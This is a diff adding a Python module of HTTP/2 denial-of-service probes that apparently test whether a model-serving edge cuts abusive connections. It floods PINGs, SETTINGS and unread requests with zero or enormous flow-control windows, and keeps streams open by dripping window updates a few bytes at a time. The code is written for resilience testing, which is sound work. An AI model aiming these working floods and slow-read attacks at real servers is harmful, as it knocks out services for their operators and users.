@@ -1,0 +1,118 @@
+"""Attackers that ask and do not take the answers: never, or a byte at a time."""
+
+import dataclasses
+import socket
+import time
+
+from . import frames
+from .blocks import outcome_of
+from .connection import PATIENCE_SECONDS, Connection, Target, Unanswered
+from .floods import stream_of
+from .siege import Outcome
+
+RECEIVE_BYTES = 4096
+ESTABLISHED = 1
+POLL_SECONDS = 0.05
+
+
+def peer_has_closed(connection: Connection) -> bool:
+    """Asks the kernel, without reading."""
+    state = connection.socket.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
+    return state != ESTABLISHED
+
+
+@dataclasses.dataclass(frozen=True)
+class NeverReads:
+    """Sends pieces whose answers pile up at the edge, reads nothing, and waits to be cut."""
+
+    name: str
+    make: object
+    """`make(target, index)` gives the bytes of a piece."""
+    pieces: int
+    settings: tuple[tuple[int, int], ...] = ()
+    model: str = "scripted"
+
+    def __call__(self, target: Target, source: str) -> Outcome:
+        target = dataclasses.replace(target, model=self.model)
+        opening = frames.PREFACE + frames.settings(*self.settings)
+        with Connection(target, source, opening=opening, receive_bytes=RECEIVE_BYTES) as connection:
+            sent = 0
+            try:
+                while sent < self.pieces:
+                    batch = range(sent, min(sent + 50, self.pieces))
+                    connection.socket.sendall(b"".join(self.make(target, index) for index in batch))
+                    sent = batch.stop
+            except TimeoutError:
+                return Outcome(cut=False, sent=sent, words="the edge has stopped reading and keeps the connection")
+            except OSError:
+                return Outcome(cut=True, sent=sent)
+            deadline = time.monotonic() + PATIENCE_SECONDS
+            while not peer_has_closed(connection):
+                if time.monotonic() > deadline:
+                    return Outcome(cut=False, sent=sent, words="the edge keeps the connection")
+                time.sleep(POLL_SECONDS)
+            return Outcome(cut=True, sent=sent)
+
+
+def _models(target: Target, index: int) -> bytes:
+    return frames.headers(stream_of(index), target.models())
+
+
+def _unknown(target: Target, index: int) -> bytes:
+    return frames.headers(stream_of(index), frames.block(*target.pseudo()))
+
+
+def _chat(target: Target, index: int) -> bytes:
+    stream = stream_of(index)
+    return frames.headers(stream, target.chat(), ends=False) + frames.data(stream, target.body("much"))
+
+
+NO_WINDOW = ((frames.INITIAL_WINDOW_SIZE, 0),)
+WIDE_WINDOW = ((frames.INITIAL_WINDOW_SIZE, 2**31 - 1),)
+
+NEVER_READS = [
+    NeverReads("PINGs", lambda target, index: frames.ping(), 200_000),
+    NeverReads("SETTINGS", lambda target, index: frames.settings(), 200_000),
+    NeverReads("requests that are refused", _unknown, 30_000),
+    NeverReads("requests whose answers have no window", _models, 10_000, NO_WINDOW),
+    NeverReads("requests for the list of models", _models, 30_000, WIDE_WINDOW),
+    NeverReads("answers of a megabyte", _chat, 20, WIDE_WINDOW, model="scripted-http2"),
+]
+
+
+@dataclasses.dataclass(frozen=True)
+class DripReader:
+    """Opens the window of each answer by a few bytes at a time, to look alive for ever. Each must be reset, or the
+    connection cut."""
+
+    name: str
+    step: int = 1
+    streams: int = 4
+    pause_seconds: float = 0.1
+    updates: int = 300
+
+    def __call__(self, target: Target, source: str) -> Outcome:
+        target = dataclasses.replace(target, model="scripted-http2")
+        opening = frames.PREFACE + frames.settings((frames.INITIAL_WINDOW_SIZE, 1))
+        streams = [stream_of(index) for index in range(self.streams)]
+        with Connection(target, source, opening=opening) as connection:
+            connection.send(b"".join(_chat(target, index) for index in range(self.streams)))
+            connection.socket.settimeout(self.pause_seconds)
+            for sent in range(self.updates):
+                open_streams = [stream for stream in streams if not connection.done(stream)]
+                if not open_streams or connection.cut:
+                    return outcome_of(connection, cut=True, sent=sent)
+                connection.send(b"".join(frames.window_update(stream, self.step) for stream in open_streams))
+                self._read_for_a_while(connection)
+            return outcome_of(connection, cut=False, sent=self.updates, words="drips on")
+
+    def _read_for_a_while(self, connection: Connection) -> None:
+        ends = time.monotonic() + self.pause_seconds
+        try:
+            while time.monotonic() < ends and connection.read():
+                pass
+        except Unanswered:
+            pass
+
+
+DRIP_READERS = [DripReader("a byte at a time"), DripReader("ten bytes at a time", step=10)]
